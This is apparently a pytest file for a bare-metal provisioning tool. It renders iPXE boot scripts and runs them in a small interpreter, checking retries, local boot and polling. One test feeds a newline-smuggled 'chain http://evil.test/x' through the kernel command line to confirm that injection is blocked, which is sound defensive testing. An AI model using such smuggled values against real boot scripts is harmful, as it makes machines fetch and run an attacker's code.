"""iPXE scripts per profile kind and platform: structure, and what they do when run as the 2019 iPXE runs them.

`run()` below executes a script with iPXE's own rules (core/exec.c and image/script.c of the 2019 build):
a line is split on white space, `&&` and `||` short-circuit, and a line whose status is failure ends
the script. That is what makes `iseq A B && goto X` alone a bug, so every path is run, not only read.
"""
from __future__ import annotations

import ipaddress
import re
from dataclasses import dataclass, field
from typing import Callable

import pytest

from domain.nodes import Node
from domain.profiles import BootProfile
from ipxe.script import ScriptTiming, render_script, render_unknown_script

BASE = "http://10.77.0.1:8080"
NODE = Node("node-1", "52:54:00:77:00:01", ipaddress.IPv4Address("10.77.0.11"), rack="r1")
SCRIPT_URL = BASE + "/boot/52-54-00-77-00-01.ipxe"
DEPLOY = BootProfile(
    kind="deploy",
    kernel="deploy/vmlinuz",
    initrds=("deploy/initrd.img", "deploy/modules.cpio"),
    cmdline="console=ttyS0 rackboot.callback={callback} rackboot.node={node} rackboot.mac={mac} base={base}",
    env="debian12",
)
# What the vm-testbed's interpreter is asked to support, plus `clear`; the 2019 iPXE has all of them.
ALLOWED = {"kernel", "initrd", "imgargs", "boot", "chain", "sanboot", "exit", "goto", "isset", "iseq", "sleep", "echo",
           "set", "clear", "inc"}


def structure(text: str) -> tuple[list[str], list[list[str]]]:
    """Return (labels, command lines as tokens); assert what every script must satisfy."""
    lines = text.splitlines()
    assert lines[0] == "#!ipxe"
    labels: list[str] = []
    commands: list[list[str]] = []
    for line in lines[1:]:
        line = line.strip()
        if not line or line.startswith("#"):
            continue
        if line.startswith(":"):
            labels.append(line[1:])
            continue
        commands.append(line.split())
    assert len(labels) == len(set(labels)), "duplicate label"
    for tokens in commands:
        segments = " ".join(tokens).replace("||", "&&").split("&&")
        for segment in segments:
            words = segment.split()
            assert words, f"empty command in {tokens}"
            assert words[0] in ALLOWED, f"{words[0]} is not a command we may use"
            if words[0] == "goto":
                assert words[1] in labels, f"goto {words[1]}: no such label"
    return labels, commands


@dataclass
class Run:
    """What a script did: the commands with side effects, and how it ended."""

    actions: list[tuple[str, ...]] = field(default_factory=list)
    end: str = ""
    settings: dict[str, str] = field(default_factory=dict)


def run(text: str, *, platform: str = "pcbios", ok: Callable[[str, str], bool] = lambda cmd, url: True, max_steps: int = 2000) -> Run:
    """Execute a script like iPXE; ok(command, url) says whether a download (or chain/sanboot) succeeds."""
    lines = text.splitlines()
    labels = {line.strip()[1:]: i for i, line in enumerate(lines) if line.strip().startswith(":")}
    result = Run(settings={"platform": platform})
    pc, steps = 1, 0

    def expand(token: str) -> str:
        return re.sub(r"\$\{([^}]+)\}", lambda m: result.settings.get(m.group(1), ""), token)

    def execute(argv: list[str]) -> int:
        nonlocal pc
        cmd, args = argv[0], argv[1:]
        if cmd == "echo":
            return 0
        if cmd == "set":
            result.settings[args[0].split(":")[0]] = " ".join(args[1:])
            return 0
        if cmd == "clear":
            result.settings.pop(args[0], None)
            return 0
        if cmd == "inc":  # nvo_cmd.c: a missing setting counts as a zero :int32
            result.settings[args[0]] = str(int(result.settings.get(args[0], "0") or 0) + 1)
            return 0
        if cmd == "iseq":
            return 0 if args[0] == args[1] else 1
        if cmd == "isset":
            return 0 if args and args[0] else 1
        if cmd == "goto":
            pc = labels[args[0]] + 1
            return 0
        if cmd == "sleep":
            result.actions.append(("sleep", args[0]))
            return 0
        if cmd in ("kernel", "initrd", "chain", "sanboot"):
            url = next((a for a in args if "://" in a), " ".join(args))
            result.actions.append((cmd, *args))
            success = ok(cmd, url)
            if success and cmd in ("chain", "sanboot"):
                result.end = f"{cmd} {url}"
                raise StopIteration
            return 0 if success else 1
        if cmd == "boot":
            result.actions.append(("boot",))
            if ok("boot", ""):
                result.end = "boot"
                raise StopIteration
            return 1
        if cmd == "exit":
            result.end = " ".join(["exit", *args])
            raise StopIteration
        raise AssertionError(f"unknown command {cmd}")

    try:
        while pc < len(lines):
            steps += 1
            assert steps < max_steps, "script loops forever"
            line = lines[pc].strip()
            pc += 1
            if not line or line.startswith("#") or line.startswith(":"):
                continue
            tokens = line.split()
            rc, process = 0, True
            while True:
                for i, t in enumerate(tokens):
                    if t in ("&&", "||"):
                        argv, terminator, tokens = tokens[:i], t, tokens[i + 1 :]
                        break
                else:
                    argv, terminator, tokens = tokens, None, []
                if process:
                    rc = execute([expand(t) for t in argv])
                if terminator is None:
                    break
                process = (rc == 0) if terminator == "&&" else (rc != 0)
            if rc != 0:
                result.end = f"terminated at: {line}"
                return result
    except StopIteration:
        return result
    result.end = "end of script"
    return result


def downloads(r: Run, cmd: str) -> list[tuple[str, ...]]:
    return [a for a in r.actions if a[0] == cmd]


@pytest.mark.parametrize("kind", ["deploy", "kernel", "discovery"])
@pytest.mark.parametrize("platform", ["pcbios", "efi"])
def test_booting_kinds_download_kernel_then_initrds_then_boot(kind: str, platform: str) -> None:
    profile = BootProfile(kind=kind, kernel=DEPLOY.kernel, initrds=DEPLOY.initrds, cmdline=DEPLOY.cmdline)
    text = render_script(profile, NODE, NODE.mac, BASE)
    structure(text)
    r = run(text, platform=platform)
    assert r.end == "boot"
    kernel, initrd0, initrd1, boot = r.actions
    assert kernel[:2] == ("kernel", BASE + "/files/deploy/vmlinuz")
    # each initrd is named and handed over on the command line: the 2019 UEFI iPXE cannot do it otherwise
    assert kernel[2:4] == ("initrd=initrd.img", "initrd=modules.cpio")
    assert initrd0 == ("initrd", "--name", "initrd.img", BASE + "/files/deploy/initrd.img")
    assert initrd1 == ("initrd", "--name", "modules.cpio", BASE + "/files/deploy/modules.cpio")
    assert boot == ("boot",)


def test_placeholders_are_expanded_in_the_command_line() -> None:
    r = run(render_script(DEPLOY, NODE, NODE.mac, BASE))
    args = downloads(r, "kernel")[0][2:]
    assert args[2:] == (
        "console=ttyS0",
        f"rackboot.callback={BASE}/callback/52-54-00-77-00-01",
        "rackboot.node=node-1",
        "rackboot.mac=52:54:00:77:00:01",
        f"base={BASE}",
    )


def test_urls_and_absolute_paths_are_kept_relative_ones_go_under_files() -> None:
    profile = BootProfile(kind="kernel", kernel="http://mirror.test/k/vmlinuz", initrds=("/nbp/extra.img", "a b/{node}.img"))
    r = run(render_script(profile, NODE, NODE.mac, BASE))
    assert downloads(r, "kernel")[0][1] == "http://mirror.test/k/vmlinuz"
    assert [a[3] for a in downloads(r, "initrd")] == [BASE + "/nbp/extra.img", BASE + "/files/a%20b/node-1.img"]


def test_a_failing_download_is_retried_with_a_pause_then_succeeds() -> None:
    failures = {"kernel": 2}

    def ok(cmd: str, url: str) -> bool:
        if failures.get(cmd, 0) > 0:
            failures[cmd] -= 1
            return False
        return True

    r = run(render_script(DEPLOY, NODE, NODE.mac, BASE, timing=ScriptTiming(tries=4, retry_delay=3)), ok=ok)
    assert r.end == "boot"
    assert [a[0] for a in r.actions[:5]] == ["kernel", "sleep", "kernel", "sleep", "kernel"]
    assert ("sleep", "3") in r.actions


def test_each_download_gets_its_own_tries() -> None:
    failures = {"kernel": 3, "initrd": 3}  # one less than the tries, for both: the counter must restart

    def ok(cmd: str, url: str) -> bool:
        if url.endswith("initrd.img") and failures["initrd"] or cmd == "kernel" and failures["kernel"]:
            failures["kernel" if cmd == "kernel" else "initrd"] -= 1
            return False
        return True

    r = run(render_script(DEPLOY, NODE, NODE.mac, BASE, timing=ScriptTiming(tries=4)), ok=ok)
    assert r.end == "boot"
    assert len(downloads(r, "kernel")) == 4 and len(downloads(r, "initrd")) == 5  # 4 x initrd.img, 1 x modules


@pytest.mark.parametrize("failing,error", [("kernel", "kernel"), ("initrd", "initrd.img")])
def test_a_download_that_keeps_failing_gives_up_and_asks_the_appliance_again(failing: str, error: str) -> None:
    text = render_script(DEPLOY, NODE, NODE.mac, BASE, timing=ScriptTiming(tries=3, retry_delay=2, fail_delay=9))
    r = run(text, ok=lambda cmd, url: cmd != failing)
    assert len(downloads(r, failing)) == 3
    assert ("boot",) not in r.actions
    assert r.actions[-2:] == [("sleep", "9"), ("chain", "--replace", f"{SCRIPT_URL}?error={error}")]
    assert r.end == f"chain {SCRIPT_URL}?error={error}"


def test_a_failing_boot_reports_and_asks_again() -> None:
    r = run(render_script(DEPLOY, NODE, NODE.mac, BASE), ok=lambda cmd, url: cmd != "boot")
    assert r.end == f"chain {SCRIPT_URL}?error=boot"


def test_local_boots_the_first_disk_on_bios() -> None:
    text = render_script(BootProfile(kind="local"), NODE, NODE.mac, BASE)
    structure(text)
    r = run(text, platform="pcbios")
    assert r.actions == [("sanboot", "--no-describe", "--drive", "0x80")]
    assert r.end.startswith("sanboot")


def test_local_exits_with_an_error_status_on_efi_so_the_firmware_tries_the_disk() -> None:
    """Exit status 0 would send OVMF to its boot manager menu (UEFI 2.10 section 3.1.1): seen on a deployed VM."""
    r = run(render_script(BootProfile(kind="local"), NODE, NODE.mac, BASE), platform="efi")
    assert r.actions == [] and r.end == "exit 1"


def test_local_chains_the_appliance_s_grub_on_efi_and_falls_back_to_the_firmware() -> None:
    text = render_script(BootProfile(kind="local"), NODE, NODE.mac, BASE, local_efi="deploy/localboot-x64.efi")
    structure(text)
    r = run(text, platform="efi")
    assert r.end == f"chain {BASE}/files/deploy/localboot-x64.efi"
    r = run(text, platform="efi", ok=lambda c, u: False)  # not built yet (404), or GRUB found no disk and returned
    assert r.actions == [("chain", "--autofree", f"{BASE}/files/deploy/localboot-x64.efi")] and r.end == "exit 1"
    assert run(text, platform="pcbios").end.startswith("sanboot")


def test_local_without_a_bootable_disk_exits_instead_of_stopping_on_an_error() -> None:
    r = run(render_script(BootProfile(kind="local"), NODE, NODE.mac, BASE), platform="pcbios", ok=lambda c, u: False)
    assert r.end == "exit"


def test_none_waits_and_polls_the_same_script() -> None:
    text = render_script(BootProfile(kind="none"), NODE, NODE.mac, BASE, timing=ScriptTiming(poll_delay=7))
    structure(text)
    chains = iter([False, False, True])  # the appliance is unreachable twice
    r = run(text, ok=lambda cmd, url: next(chains))
    assert r.actions == [("sleep", "7"), ("chain", "--replace", f"{SCRIPT_URL}?poll=1")] * 3
    assert r.end == f"chain {SCRIPT_URL}?poll=1"


def test_unknown_mac_script_says_so_and_exits() -> None:
    text = render_unknown_script("52:54:00:00:00:99")
    structure(text)
    assert "52:54:00:00:00:99 is not in the inventory" in text
    assert run(text).end == "exit 1"  # a failure, so a site menu that chained us can take its own path


def test_command_line_cannot_inject_script_lines_and_initrd_names_stay_unique() -> None:
    profile = BootProfile(kind="kernel", kernel="k/vmlinuz", initrds=("a/initrd.img", "b/initrd.img"),
                          cmdline="quiet\nchain http://evil.test/x", env="x\necho y")
    text = render_script(profile, NODE, NODE.mac, BASE)
    structure(text)
    r = run(text)
    assert r.end == "boot"
    assert not any(a[0] == "chain" for a in r.actions)
    kernel = downloads(r, "kernel")[0]
    assert kernel[2:] == ("initrd=initrd.img", "initrd=initrd.img-2", "quiet", "chain", "http://evil.test/x")
    assert [a[2] for a in downloads(r, "initrd")] == ["initrd.img", "initrd.img-2"]


def test_scripts_use_no_command_missing_from_the_2019_ipxe() -> None:
    for profile in (DEPLOY, BootProfile(kind="local"), BootProfile(kind="none")):
        text = render_script(profile, NODE, NODE.mac, BASE)
        assert "poweroff" not in text
        structure(text)
